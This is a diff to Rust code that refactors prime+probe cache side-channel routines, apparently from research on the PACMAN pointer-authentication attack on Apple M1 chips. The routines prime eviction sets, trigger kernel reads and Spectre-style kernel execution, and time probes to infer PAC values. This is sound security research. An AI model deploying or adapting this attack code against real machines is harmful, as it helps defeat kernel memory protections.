@@ -1,9 +1,26 @@
 /*!
  * Methods for implementing the actual prime+probe attacks.
  */
-use crate::*;
-
+use crate::evset;
+use serde::{Serialize, Deserialize};
+
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+use {
+    crate::error::PacmanError,
+    crate::guard::KernelAllocation,
+    crate::evset::{data_pevset, inst_pevset, inst_chain_evset},
+    crate::libdarwin::crandom,
+    crate::primitives::*,
+    crate::results::{ExperimentRecord, ResultsSink},
+    crate::timer,
+    rand::thread_rng,
+    rand::prelude::SliceRandom,
+    crate::attacks::decision::count_misses,
+};
+
+/// How many addresses to prime for data?
 pub const DATA_EVSET_SIZE : usize = 21;
+/// Probe latency above which a data access counts as a miss
 pub const DATA_MISS_LATENCY : u64 = 40;
 
 /// How many times to repeat a given trial?
@@ -12,7 +29,9 @@ pub const DATA_NUM_ITERS : usize = 50;
 /// How many trials to run? (Each trial == a different PAC)
 pub const DATA_NUM_TRIALS : usize = 1024;
 
+/// How many addresses to prime for instructions?
 pub const INST_EVSET_SIZE : usize = 11;
+/// Probe latency above which an instruction fetch counts as a miss
 pub const INST_MISS_LATENCY : u64 = 40;
 
 /// How many times to repeat a given trial?
@@ -21,24 +40,71 @@ pub const INST_NUM_ITERS : usize = 512;
 /// How many trials to run? (Each trial == a different PAC)
 pub const INST_NUM_TRIALS : usize = 32;
 
+/**
+ * Runtime parameters for a prime+probe experiment.
+ */
+#[derive(Copy, Clone, Debug, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct PrimeProbeParams {
+    /// How many addresses to prime?
+    pub evset_size: usize,
+
+    /// Probe latency above which an access counts as a miss
+    pub miss_latency: u64,
+
+    /// How many times to repeat a given trial?
+    pub num_iters: usize,
+
+    /// How many trials to run?
+    pub num_trials: usize,
+}
+
+/// Parameters for `data_prime_probe`
+pub const DATA_PARAMS : PrimeProbeParams = PrimeProbeParams {
+    evset_size: DATA_EVSET_SIZE,
+    miss_latency: DATA_MISS_LATENCY,
+    num_iters: DATA_NUM_ITERS,
+    num_trials: DATA_NUM_TRIALS,
+};
+
+/// Parameters for `inst_prime_probe`
+pub const INST_PARAMS : PrimeProbeParams = PrimeProbeParams {
+    evset_size: INST_EVSET_SIZE,
+    miss_latency: INST_MISS_LATENCY,
+    num_iters: INST_NUM_ITERS,
+    num_trials: INST_NUM_TRIALS,
+};
+
+impl PrimeProbeParams {
+    /**
+     * Check these parameters make sense.
+     * Returns a description of the first problem found.
+     */
+    pub fn validate(&self) -> Result<(), String> {
+        if self.evset_size == 0 || self.evset_size > evset::EVSET_SIZE_MAX {
+            return Err(format!("evset_size must be between 1 and {} (got {})", evset::EVSET_SIZE_MAX, self.evset_size));
+        }
+        if self.num_iters == 0 {
+            return Err("num_iters must be at least 1".to_string());
+        }
+        if self.num_trials == 0 {
+            return Err("num_trials must be at least 1".to_string());
+        }
+        return Ok(());
+    }
+}
+
 /**
  * Data prime+probe
  * Begin by priming an eviction set, then do a load, and then
  * probe the eviction set, recording the number of misses.
  */
-pub unsafe fn data_prime_probe(mem_region: &mut [u8]) {
-    // -1. Setup PacmanKit
-    let handle = match PacmanKitConnection::init() {
-        Some(v) => v,
-        None => panic!("Couldn't connect to PacmanKit"),
-    };
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub unsafe fn data_prime_probe<K: KernelPrimitives>(handle: &K, mem_region: &mut [u8], params: &PrimeProbeParams, sink: &mut dyn ResultsSink) -> Result<(), PacmanError> {
+    let kernel_memory = KernelAllocation::new(handle)?;
+    let kernel_mmap_va = kernel_memory.addr();
 
-    let mut kernel_mmap_va = match handle.kernel_mmap() {
-        Ok(v) => v,
-        Err(err) => panic!("Couldn't call IOMalloc in the kernel!"),
-    };
-
-    let kernel_mmap_pa = handle.kernel_virt_to_phys(kernel_mmap_va).unwrap();
+    let kernel_mmap_pa = handle.kernel_virt_to_phys(kernel_mmap_va)?;
 
     // // 0. Pick a target
     // let target = Box::new(0x41414141u64);
@@ -57,19 +123,14 @@ pub unsafe fn data_prime_probe(mem_region: &mut [u8]) {
     let target_vaddr = kernel_mmap_va;
     let target_paddr = kernel_mmap_pa;
 
-    let mut results = [[0; DATA_NUM_ITERS]; DATA_NUM_TRIALS];
+    let mut results = vec![vec![0; params.num_iters]; params.num_trials];
     let evset = data_pevset(target_vaddr, target_paddr, mem_region);
-    let chosen_vec : Vec<u64> = evset.choose_multiple(&mut rand::thread_rng(), DATA_EVSET_SIZE).into_iter().cloned().collect();
+    let chosen_vec : Vec<u64> = evset::choose_evset(&evset, params.evset_size, "the prime+probe eviction set")?;
     let indexes_vec : Vec<usize> = (0..chosen_vec.len()).collect();
 
-    // Copy from vector to array to minimize Rust overhead
-    let mut chosen = [0u64; DATA_EVSET_SIZE];
-    let mut indexes = [0usize; DATA_EVSET_SIZE];
-
-    for i in 0..DATA_EVSET_SIZE {
-        chosen[i] = chosen_vec[i];
-        indexes[i] = indexes_vec[i];
-    }
+    // Copy into boxed slices to minimize Rust overhead in the prime/ probe loops
+    let chosen : Box<[u64]> = chosen_vec[..params.evset_size].into();
+    let mut indexes : Box<[usize]> = indexes_vec[..params.evset_size].into();
 
     // Initialize eviction set
     for entry in &evset {
@@ -81,25 +142,25 @@ pub unsafe fn data_prime_probe(mem_region: &mut [u8]) {
     }
 
     // Decide which trials should load and which should not
-    let mut do_loads = [false; DATA_NUM_TRIALS];
-    for i in 0..DATA_NUM_TRIALS {
+    let mut do_loads = vec![false; params.num_trials];
+    for i in 0..params.num_trials {
         do_loads[i] = crandom::rand() % 2 == 0;
     }
 
     // Each trial tests a different PAC
-    for trial in 0..DATA_NUM_TRIALS {
+    for trial in 0..params.num_trials {
         let do_load = do_loads[trial];
 
         // Number of misses each iteration
-        let mut samples = [0; DATA_NUM_ITERS];
+        let mut samples = vec![0; params.num_iters];
 
         // Each iteration checks the same value multiple times
-        for iteration in 0..DATA_NUM_ITERS {
+        for iteration in 0..params.num_iters {
             indexes.shuffle(&mut thread_rng());
 
             // 1. Prime
             for _ in 0..12 {
-                for i in 0..DATA_EVSET_SIZE {
+                for i in 0..params.evset_size {
                     timer::time_access(chosen[indexes[i]]);
                 }
             }
@@ -108,20 +169,15 @@ pub unsafe fn data_prime_probe(mem_region: &mut [u8]) {
             // if do_load {
             //     timer::time_access(target_vaddr);
             // }
-            handle.kernel_read_for_timing(target_vaddr, do_load).unwrap();
+            handle.kernel_read_for_timing(target_vaddr, do_load)?;
 
             // 3. Probe
-            let mut times = [0; DATA_EVSET_SIZE];
-            for i in (0..DATA_EVSET_SIZE).rev() {
+            let mut times = vec![0; params.evset_size];
+            for i in (0..params.evset_size).rev() {
                 times[i] = timer::time_access(chosen[indexes[i]]);
             }
 
-            let mut misses = 0;
-            for i in 0..DATA_EVSET_SIZE {
-                if times[i] > DATA_MISS_LATENCY {
-                    misses+=1;
-                }
-            }
+            let misses = count_misses(&times, params.miss_latency);
 
             samples[iteration] = misses;
             // println!("{:?}", times);
@@ -132,125 +188,122 @@ pub unsafe fn data_prime_probe(mem_region: &mut [u8]) {
 
         // println!("To evict: 0x{:X} => 0x{:X}", target_vaddr, target_paddr);
 
-        // for i in 0..DATA_EVSET_SIZE {
+        // for i in 0..params.evset_size {
         //     println!("\t0x{:X} => 0x{:X}", chosen[indexes[i]], handle.user_virt_to_phys(chosen[indexes[i]]).unwrap());
         // }
     }
 
-    for i in 0..DATA_NUM_TRIALS {
-        if do_loads[i] {
-            print!("[*] ");
-        }
-        else {
-            print!("[x] ");
-        }
-        results[i].sort();
-        let mut avg : u64 = 0;
-        for j in 0..results[i].len() {
-            avg += results[i][j];
-        }
-        avg /= results[i].len() as u64;
-        // println!("{:?}", results[i]);
-        let median = results[i][results[i].len() / 2];
-        println!("{}, {}", median, avg);
+    // Make sure to do all recording *AFTER* the tests have completed!
+    for i in 0..params.num_trials {
+        sink.record(
+            &ExperimentRecord::new("data_prime_probe")
+                .param("trial", i)
+                .param("do_load", do_loads[i])
+                .param("evset_size", params.evset_size)
+                .param("miss_latency", params.miss_latency)
+                .samples(&results[i])
+        )?;
     }
+
+    return Ok(());
 }
 
 /**
  * Inst prime+probe
  * Begin by priming an eviction set, then do an exec, and then
  * probe the eviction set, recording the number of misses.
+ *
+ * `inst_target_offset` is how many bytes into the kernel mach-o the `ret` to execute lives
+ * (see `profile::INST_TARGET` and `SymbolicAddress::offset_from_base`).
+ *
+ * With `chain`, the eviction set is an `evset::InstChain`: it's primed with one call through every line,
+ * and each line is probed through its own `ret`.
  */
- pub unsafe fn inst_prime_probe(mem_region: &mut [u8]) {
-    // -1. Setup PacmanKit
-    let handle = match PacmanKitConnection::init() {
-        Some(v) => v,
-        None => panic!("Couldn't connect to PacmanKit"),
-    };
-
-    // let mut kernel_method_va = handle.leak_method().unwrap();
-    let kernel_method_va = handle.get_kernel_base().unwrap() + attacks::pacman::INST_TARGET_OFFSET;
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+ pub unsafe fn inst_prime_probe<K: KernelPrimitives>(handle: &K, mem_region: &mut [u8], params: &PrimeProbeParams, inst_target_offset: u64, chain: bool, sink: &mut dyn ResultsSink) -> Result<(), PacmanError> {
+    // let mut kernel_method_va = handle.leak_method()?;
+    let kernel_method_va = handle.get_kernel_base()? + inst_target_offset;
 
-    let kernel_method_pa = handle.kernel_virt_to_phys(kernel_method_va).unwrap();
+    let kernel_method_pa = handle.kernel_virt_to_phys(kernel_method_va)?;
 
     // // 0. Pick a target
     let target_vaddr = kernel_method_va;
     let target_paddr = kernel_method_pa;
 
-    // let train_vaddr = handle.leak_retpoline().unwrap() | PAC_BITMASK;
+    // let train_vaddr = handle.leak_retpoline()? | PAC_BITMASK;
 
-    let mut results = [[0; INST_NUM_ITERS]; INST_NUM_TRIALS];
+    let mut results = vec![vec![0; params.num_iters]; params.num_trials];
     let evset = inst_pevset(target_vaddr, target_paddr, mem_region);
-    let chosen_vec : Vec<u64> = evset.choose_multiple(&mut rand::thread_rng(), INST_EVSET_SIZE).into_iter().cloned().collect();
+    let chosen_vec : Vec<u64> = evset::choose_evset(&evset, params.evset_size, "the prime+probe eviction set")?;
     let indexes_vec : Vec<usize> = (0..chosen_vec.len()).collect();
 
-    // Copy from vector to array to minimize Rust overhead
-    let mut chosen = [0u64; INST_EVSET_SIZE];
-    let mut indexes = [0usize; INST_EVSET_SIZE];
-
-    for i in 0..INST_EVSET_SIZE {
-        chosen[i] = chosen_vec[i];
-        indexes[i] = indexes_vec[i];
-    }
+    // Copy into boxed slices to minimize Rust overhead in the prime/ probe loops
+    let chosen : Box<[u64]> = chosen_vec[..params.evset_size].into();
+    let mut indexes : Box<[usize]> = indexes_vec[..params.evset_size].into();
 
     // Initialize eviction set
     for entry in &evset {
         timer::time_exec(*entry);
     }
 
-    for entry in &chosen {
+    // Chain the chosen lines together (after the whole set is initialized, it rewrites their pages)
+    let chain = if chain { Some(inst_chain_evset(&chosen)?) } else { None };
+    let probes : Box<[u64]> = match &chain {
+        Some(chain) => (0..params.evset_size).map(|i| chain.probe(i)).collect(),
+        None => chosen.clone(),
+    };
+
+    for entry in probes.iter() {
         timer::time_exec(*entry);
     }
 
     // Decide which trials should load and which should not
-    let mut do_loads = [false; INST_NUM_TRIALS];
-    for i in 0..INST_NUM_TRIALS {
+    let mut do_loads = vec![false; params.num_trials];
+    for i in 0..params.num_trials {
         do_loads[i] = crandom::rand() % 2 == 0;
     }
 
     // Each trial tests a different PAC
-    for trial in 0..INST_NUM_TRIALS {
+    for trial in 0..params.num_trials {
         let do_load = do_loads[trial];
 
         // Number of misses each iteration
-        let mut samples = [0; INST_NUM_ITERS];
+        let mut samples = vec![0; params.num_iters];
 
         // Each iteration checks the same value multiple times
-        for iteration in 0..INST_NUM_ITERS {
+        for iteration in 0..params.num_iters {
             indexes.shuffle(&mut thread_rng());
 
             // BEGIN SPECTRE STUFF
             // for _ in 0..64 {
-            //     handle.kernel_exec_for_spectre(train_vaddr, 0).unwrap();
+            //     handle.kernel_exec_for_spectre(train_vaddr, 0)?;
             // }
             // END SPECTRE STUFF
 
             // 1. Prime
             for _ in 0..12 {
-                for i in 0..INST_EVSET_SIZE {
-                    timer::time_exec(chosen[indexes[i]]);
+                match &chain {
+                    Some(chain) => { timer::time_exec(chain.entry()); },
+                    None => for i in 0..params.evset_size {
+                        timer::time_exec(chosen[indexes[i]]);
+                    },
                 }
             }
 
             // 2. Call(?)
             // prime+probe only:
-            // handle.kernel_exec_for_timing(target_vaddr, do_load).unwrap();
+            // handle.kernel_exec_for_timing(target_vaddr, do_load)?;
 
             // Spectre:
-            handle.kernel_exec_for_spectre(target_vaddr, if do_load {0x0} else {0x50}).unwrap();
+            handle.kernel_exec_for_spectre(target_vaddr, if do_load {0x0} else {0x50})?;
 
             // 3. Probe
-            let mut times = [0; INST_EVSET_SIZE];
-            for i in (0..INST_EVSET_SIZE).rev() {
-                times[i] = timer::time_exec(chosen[indexes[i]]);
+            let mut times = vec![0; params.evset_size];
+            for i in (0..params.evset_size).rev() {
+                times[i] = timer::time_exec(probes[indexes[i]]);
             }
 
-            let mut misses = 0;
-            for i in 0..INST_EVSET_SIZE {
-                if times[i] > INST_MISS_LATENCY {
-                    misses+=1;
-                }
-            }
+            let misses = count_misses(&times, params.miss_latency);
 
             // println!("{:?}", times);
             samples[iteration] = misses;
@@ -259,21 +312,18 @@ pub unsafe fn data_prime_probe(mem_region: &mut [u8]) {
         results[trial] = samples;
     }
 
-    for i in 0..INST_NUM_TRIALS {
-        if do_loads[i] {
-            print!("[*] ");
-        }
-        else {
-            print!("[x] ");
-        }
-        results[i].sort();
-        let mut avg : u64 = 0;
-        for j in 0..results[i].len() {
-            avg += results[i][j];
-        }
-        avg /= results[i].len() as u64;
-        // println!("{:?}", results[i]);
-        let median = results[i][results[i].len() / 2];
-        println!("{}, {}", median, avg);
+    // Make sure to do all recording *AFTER* the tests have completed!
+    for i in 0..params.num_trials {
+        sink.record(
+            &ExperimentRecord::new("inst_prime_probe")
+                .param("trial", i)
+                .param("do_load", do_loads[i])
+                .param("chain", chain.is_some())
+                .param("evset_size", params.evset_size)
+                .param("miss_latency", params.miss_latency)
+                .samples(&results[i])
+        )?;
     }
+
+    return Ok(());
 }